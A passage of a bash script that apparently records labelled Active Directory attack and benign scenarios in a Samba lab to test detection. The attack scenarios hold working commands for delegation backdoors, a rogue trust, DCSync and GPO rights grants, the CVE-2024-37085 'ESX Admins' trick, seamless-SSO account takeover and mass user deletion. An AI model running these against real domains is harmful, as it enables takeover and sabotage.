  spn_ldif "$WORK/tmp/spn-web.ldif" "$dn" add "$spn"
  on ws -- ldapmodify -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS" -f "$WORK/tmp/spn-web.ldif"
  on ws -- "$VPY" "$IMP/getST.py" -dc-ip "$DC_IP" -spn "$spn" "$DNSDOM/alice:$ALICE_PASS"
  expect 'ldap.protocolOp==6'
  expect 'kerberos.msg_type==13'
  cap_end
  spn_ldif "$WORK/tmp/spn-web.ldif" "$dn" delete "$spn"
  ns $NS_WS ldapmodify -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS" -f "$WORK/tmp/spn-web.ldif" >/dev/null 2>&1 || true
}

sc_delegation_backdoor() {
  local remote=(-H "ldap://$DC_IP" -s "$WORK/client.conf" -U "$DOMAIN\\$DA_USER%$DA_PASS" --use-kerberos=off)
  cap_begin delegation_backdoor attack T1098 "$ATK_IP" "SQL01\$ (unconstrained delegation), svc_web (protocol transition, ldap/$DCFQDN)" \
    "A delegation backdoor: with da_admin's stolen password the attacker trusts SQL01 for unconstrained delegation, and gives svc_web protocol transition and constrained delegation to the DC's LDAP service (impersonate anyone to ldap/$DCFQDN: DCSync at will), with samba-tool delegation over sealed LDAP."
  on atk -- samba-tool delegation for-any-service 'SQL01$' on "${remote[@]}"
  on atk -- samba-tool delegation for-any-protocol svc_web on "${remote[@]}"
  on atk -- samba-tool delegation add-service svc_web "ldap/$DCFQDN" "${remote[@]}"
  expect "tcp.dstport==389 && ip.src==$ATK_IP"
  cap_end
  st delegation for-any-service 'SQL01$' off >/dev/null
  st delegation for-any-protocol svc_web off >/dev/null
  st delegation del-service svc_web "ldap/$DCFQDN" >/dev/null
}

sc_benign_delegation_toggle() {
  # WEB01, a web front end, is trusted for delegation before the recording.
  st delegation for-any-service 'WEB01$' on >/dev/null
  cap_begin benign_delegation_toggle benign none "$WS_IP" "WEB01\$ (enabled, disabled)" \
    "Maintenance of a delegating server: WEB01, trusted for unconstrained delegation all along (set before the recording), has its computer account enabled and disabled again by da_admin at the workstation (ldapmodify of userAccountControl). With the directory synced after it (WEB01.snapshot.json)."
  printf 'dn: CN=WEB01,CN=Computers,%s\nchangetype: modify\nreplace: userAccountControl\nuserAccountControl: %s\n' "$BASEDN" 528384 > "$WORK/tmp/web01-on.ldif"
  printf 'dn: CN=WEB01,CN=Computers,%s\nchangetype: modify\nreplace: userAccountControl\nuserAccountControl: %s\n' "$BASEDN" 528386 > "$WORK/tmp/web01-off.ldif"
  on ws -- ldapmodify -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS" -f "$WORK/tmp/web01-on.ldif"
  on ws -- ldapmodify -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS" -f "$WORK/tmp/web01-off.ldif"
  expect 'ldap.protocolOp==6' 2
  cap_end
  sync_directory benign_delegation_toggle
  st delegation for-any-service 'WEB01$' off >/dev/null
}

SCEN_LIST="$SCEN_LIST trust_created"

sc_trust_created() {
  cap_begin trust_created attack T1484.002 "$ATK_IP" "PARTNER (a trust created, then deleted)" \
    "A rogue trust: with da_admin's stolen password the attacker creates a trust to a domain it runs, PARTNER (S-1-5-21-1-2-3), over LSARPC (rpcclient createtrustdom: LsarCreateTrustedDomain, an outbound trust without SID filtering), lists the domain's trusts and deletes it again (deletetrustdom). Samba does not let LDAP write trusted domain objects; the LSA does."
  on atk -- rpcclient -s "$WORK/client.conf" -U "$DOMAIN\\$DA_USER%$DA_PASS" "$DC_IP" -c 'createtrustdom PARTNER S-1-5-21-1-2-3'
  on atk -- rpcclient -s "$WORK/client.conf" -U "$DOMAIN\\$DA_USER%$DA_PASS" "$DC_IP" -c 'enumtrust'
  on atk -- rpcclient -s "$WORK/client.conf" -U "$DOMAIN\\$DA_USER%$DA_PASS" "$DC_IP" -c 'deletetrustdom PARTNER'
  expect "dcerpc && ip.src==$ATK_IP" 3
  cap_end
}

SCEN_LIST="$SCEN_LIST benign_gpo_security_filtering gpo_edit_rights_granted dcsync_rights_granted"

GPO_DN="CN={31B2F340-016D-11D2-945F-00C04FB984F9},CN=Policies,CN=System"   # the Default Domain Policy

sid_of() {   # sid_of user|group NAME
  st "$1" show "$2" --attributes=objectSid | sed -n 's/^objectSid: //p'
}

dsacl_remote() {   # dsacl_remote HOST DN SDDL: one ACE added over sealed LDAP as da_admin
  on "$1" -- samba-tool dsacl set --objectdn="$2" --sddl="$3" -H "ldap://$DC_IP" -s "$WORK/client.conf" \
    -U "$DOMAIN\\$DA_USER%$DA_PASS" --use-kerberos=off
}

sc_benign_gpo_security_filtering() {
  local group
  group=$(sid_of group "IT Staff")
  cap_begin benign_gpo_security_filtering benign none "$WS_IP" "Default Domain Policy (read and apply for IT Staff)" \
    "Security filtering of a GPO: da_admin at the workstation gives the group IT Staff read and Apply Group Policy on the Default Domain Policy (samba-tool dsacl set over sealed LDAP), as the Group Policy Management console's Security Filtering does; no write right. With the directory synced after it."
  dsacl_remote ws "$GPO_DN,$BASEDN" "(OA;;CR;edacfd8f-ffb3-11d1-b41d-00a0c968f939;;$group)(A;;RPLCLORC;;;$group)"
  expect "tcp.dstport==389 && ip.src==$WS_IP"
  cap_end
  sync_directory benign_gpo_security_filtering
}

sc_gpo_edit_rights_granted() {
  local bob
  bob=$(sid_of user bob)
  cap_begin gpo_edit_rights_granted attack T1484.001 "$ATK_IP" "Default Domain Policy (write for bob)" \
    "A GPO backdoor: with da_admin's stolen password the attacker gives bob read and write on the Default Domain Policy (samba-tool dsacl set over sealed LDAP), so that bob can later push settings, tasks and scripts to every computer of the domain (SharpGPOAbuse)."
  dsacl_remote atk "$GPO_DN,$BASEDN" "(A;;RPWPLCLORC;;;$bob)"
  expect "tcp.dstport==389 && ip.src==$ATK_IP"
  cap_end
  sync_directory gpo_edit_rights_granted
}

sc_dcsync_rights_granted() {
  local bob
  bob=$(sid_of user bob)
  cap_begin dcsync_rights_granted attack T1222.001 "$ATK_IP" "$BASEDN (replication rights for bob)" \
    "A DCSync backdoor: with da_admin's stolen password the attacker gives bob DS-Replication-Get-Changes and DS-Replication-Get-Changes-All on the domain object (samba-tool dsacl set over sealed LDAP), as ntlmrelayx --escalate-user does with a relayed account."
  dsacl_remote atk "$BASEDN" "(OA;;CR;1131f6aa-9c07-11d1-f79f-00c04fc2dcd2;;$bob)(OA;;CR;1131f6ad-9c07-11d1-f79f-00c04fc2dcd2;;$bob)"
  expect "tcp.dstport==389 && ip.src==$ATK_IP"
  cap_end
  sync_directory dcsync_rights_granted
}

SCEN_LIST="$SCEN_LIST esx_admins_group esx_admins_renamed benign_esx_lookalike_group"

# CVE-2024-37085: unpatched domain-joined ESXi hosts make members of a domain group named
# "ESX Admins" administrators, by name.
sc_esx_admins_group() {
  local remote=(-H "ldap://$DC_IP" -s "$WORK/client.conf" -U "$DOMAIN\\$DA_USER%$DA_PASS" --use-kerberos=off)
  cap_begin esx_admins_group attack T1136.002 "$ATK_IP" "ESX Admins (a group created, bob added)" \
    "CVE-2024-37085: with da_admin's stolen password the attacker creates the domain group ESX Admins and adds bob to it (samba-tool group add, addmembers over sealed LDAP); unpatched domain-joined ESXi hosts make its members administrators."
  on atk -- samba-tool group add "ESX Admins" "${remote[@]}"
  on atk -- samba-tool group addmembers "ESX Admins" bob "${remote[@]}"
  expect "tcp.dstport==389 && ip.src==$ATK_IP"
  cap_end
  st group delete "ESX Admins" >/dev/null 2>&1 || true
}

sc_esx_admins_renamed() {
  # A group bob was given to manage earlier (created before the recording).
  st group add "VM Operators" >/dev/null
  cap_begin esx_admins_renamed attack T1098 "$WS_IP" "VM Operators (renamed ESX Admins)" \
    "CVE-2024-37085 by rename: da_admin's stolen password used at the workstation renames the existing group VM Operators to ESX Admins (ldapmodify of sAMAccountName over a simple bind)."
  printf 'dn: CN=VM Operators,CN=Users,%s\nchangetype: modify\nreplace: sAMAccountName\nsAMAccountName: ESX Admins\n' "$BASEDN" > "$WORK/tmp/esx-rename.ldif"
  on ws -- ldapmodify -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS" -f "$WORK/tmp/esx-rename.ldif"
  expect 'ldap.protocolOp==6'
  cap_end
  st group delete "ESX Admins" >/dev/null 2>&1 || st group delete "VM Operators" >/dev/null 2>&1 || true
}

sc_benign_esx_lookalike_group() {
  cap_begin benign_esx_lookalike_group benign none "$WS_IP" "ESX Operators, ESX Admins Audit" \
    "The virtualisation team's groups under other names: da_admin at the workstation creates ESX Operators (ldapadd over a simple bind) and renames it ESX Admins Audit (ldapmodify of sAMAccountName) — names close to ESX Admins that no ESXi host trusts."
  printf 'dn: CN=ESX Operators,CN=Users,%s\nchangetype: add\nobjectClass: group\nsAMAccountName: ESX Operators\n' "$BASEDN" > "$WORK/tmp/esx-ops.ldif"
  printf 'dn: CN=ESX Operators,CN=Users,%s\nchangetype: modify\nreplace: sAMAccountName\nsAMAccountName: ESX Admins Audit\n' "$BASEDN" > "$WORK/tmp/esx-ops-rename.ldif"
  on ws -- ldapmodify -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS" -f "$WORK/tmp/esx-ops.ldif"
  on ws -- ldapmodify -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS" -f "$WORK/tmp/esx-ops-rename.ldif"
  expect 'ldap.protocolOp==8'
  expect 'ldap.protocolOp==6'
  cap_end
  st group delete "ESX Admins Audit" >/dev/null 2>&1 || st group delete "ESX Operators" >/dev/null 2>&1 || true
}

SCEN_LIST="$SCEN_LIST azureadssoacc_full_control azureadssoacc_password_reset benign_azureadssoacc_rollover"

# Entra seamless SSO's computer account, as Entra Connect's setup creates it (before the
# recordings); each scenario that changes it removes it again.
seamless_sso_setup() {
  st computer create AZUREADSSOACC >/dev/null 2>&1 || true
}

sc_azureadssoacc_full_control() {
  local bob
  seamless_sso_setup
  bob=$(sid_of user bob)
  cap_begin azureadssoacc_full_control attack T1098 "$ATK_IP" "AZUREADSSOACC\$ (full control for bob)" \
    "Seamless SSO takeover: with da_admin's stolen password the attacker gives bob, whom it controls, full control of AZUREADSSOACC\$ (samba-tool dsacl set over sealed LDAP), so bob can reset its key or delegate to it at will. (Samba 4.17 lets only the system write msDS-AllowedToActOnBehalfOfOtherIdentity and has no msDS-KeyCredentialLink, the other ways in.)"
  dsacl_remote atk "CN=AZUREADSSOACC,CN=Computers,$BASEDN" "(A;;GA;;;$bob)"
  expect "tcp.dstport==389 && ip.src==$ATK_IP"
  cap_end
  st computer delete AZUREADSSOACC >/dev/null 2>&1 || true
}

sc_azureadssoacc_password_reset() {
  local bob
  seamless_sso_setup
  bob=$(sid_of user bob)
  # Reset-password on the account delegated to bob, a helpdesk user, before the recording.
  st dsacl set --objectdn="CN=AZUREADSSOACC,CN=Computers,$BASEDN" \
    --sddl="(OA;;CR;00299570-246d-11d0-a768-00a0c90f574b;;$bob)" >/dev/null
  cap_begin azureadssoacc_password_reset attack T1098 "$WS_IP" "AZUREADSSOACC\$ (password reset by bob)" \
    "Seamless SSO takeover by a password reset: bob, who was delegated reset-password on AZUREADSSOACC\$, sets its password from the workstation (samba-tool user setpassword over sealed LDAP) and so knows the key Entra ID decrypts seamless-SSO tickets with. With the directory synced after it: bob is no administrator."
  on ws -- samba-tool user setpassword 'AZUREADSSOACC$' --newpassword='Seamless-Key-2026!' \
    -H "ldap://$DC_IP" -s "$WORK/client.conf" -U "$DOMAIN\\bob%$BOB_PASS" --use-kerberos=off
  expect "tcp.dstport==389 && ip.src==$WS_IP"
  cap_end
  sync_directory azureadssoacc_password_reset
  st computer delete AZUREADSSOACC >/dev/null 2>&1 || true
}

sc_benign_azureadssoacc_rollover() {
  seamless_sso_setup
  cap_begin benign_azureadssoacc_rollover benign none "$WS_IP" "AZUREADSSOACC\$ (key rolled over by da_admin)" \
    "The documented key rollover of seamless SSO (Update-AzureADSSOForest, every 30 days): da_admin, a Domain Admin, resets AZUREADSSOACC\$'s password from the workstation (samba-tool user setpassword over sealed LDAP). With the directory synced after it."
  on ws -- samba-tool user setpassword 'AZUREADSSOACC$' --newpassword='Rolled-Over-Key-2026!' \
    -H "ldap://$DC_IP" -s "$WORK/client.conf" -U "$DOMAIN\\$DA_USER%$DA_PASS" --use-kerberos=off
  expect "tcp.dstport==389 && ip.src==$WS_IP"
  cap_end
  sync_directory benign_azureadssoacc_rollover
  st computer delete AZUREADSSOACC >/dev/null 2>&1 || true
}

SCEN_LIST="$SCEN_LIST mass_account_deletion benign_account_cleanup"

mass_users_ldif() {   # mass_users_ldif FILE PREFIX COUNT: user entries PREFIX001…
  local i
  : > "$1"
  for i in $(seq -f '%03g' 1 "$3"); do
    printf 'dn: CN=%s%s,CN=Users,%s\nchangetype: add\nobjectClass: user\nsAMAccountName: %s%s\n\n' "$2" "$i" "$BASEDN" "$2" "$i" >> "$1"
  done
}

mass_users_dns() {   # mass_users_dns FILE PREFIX FROM TO: their DNs, one a line
  seq -f "CN=$2%03g,CN=Users,$BASEDN" "$3" "$4" > "$1"
}

sc_mass_account_deletion() {
  # Thirty users of a department (created before the recording).
  mass_users_ldif "$WORK/tmp/sales.ldif" sales 30
  ns $NS_WS ldapmodify -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS" -f "$WORK/tmp/sales.ldif" >/dev/null
  mass_users_dns "$WORK/tmp/sales.dns" sales 1 30
  cap_begin mass_account_deletion attack T1485 "$ATK_IP" "sales001…sales030 (30 users deleted)" \
    "Sabotage: with da_admin's stolen password the attacker deletes a department's 30 user accounts in one go (ldapdelete over a simple bind), as a destructive intruder or ransomware crew does before striking."
  on atk -- ldapdelete -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS" -f "$WORK/tmp/sales.dns"
  expect 'ldap.protocolOp==10' 30
  cap_end
}

sc_benign_account_cleanup() {
  # A domain of some size: 700 more users (created before the recording).
  mass_users_ldif "$WORK/tmp/staff.ldif" staff 700
  ns $NS_WS ldapmodify -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS" -f "$WORK/tmp/staff.ldif" >/dev/null
  # The 700 additions' audit lines bring the log near Samba's rotation size, and a rotation
  # during the recording would lose its lines: start the log afresh (Samba appends to it).
  : > "$PREFIX/log/audit.json"
  mass_users_dns "$WORK/tmp/leavers.dns" staff 1 30
  cap_begin benign_account_cleanup benign none "$WS_IP" "staff001…staff030 (30 leavers deleted)" \
    "The quarterly leavers' cleanup: da_admin at the workstation deletes 30 departed users (ldapdelete over a simple bind) from a domain of some 760 accounts — 4 % of them, under ATA's 5 %. With the directory synced after it."
  on ws -- ldapdelete -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS" -f "$WORK/tmp/leavers.dns"
  expect 'ldap.protocolOp==10' 30
  cap_end
  sync_directory benign_account_cleanup
  mass_users_dns "$WORK/tmp/staff.dns" staff 31 700
  ns $NS_WS ldapdelete -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS" -f "$WORK/tmp/staff.dns" >/dev/null 2>&1 || true
}
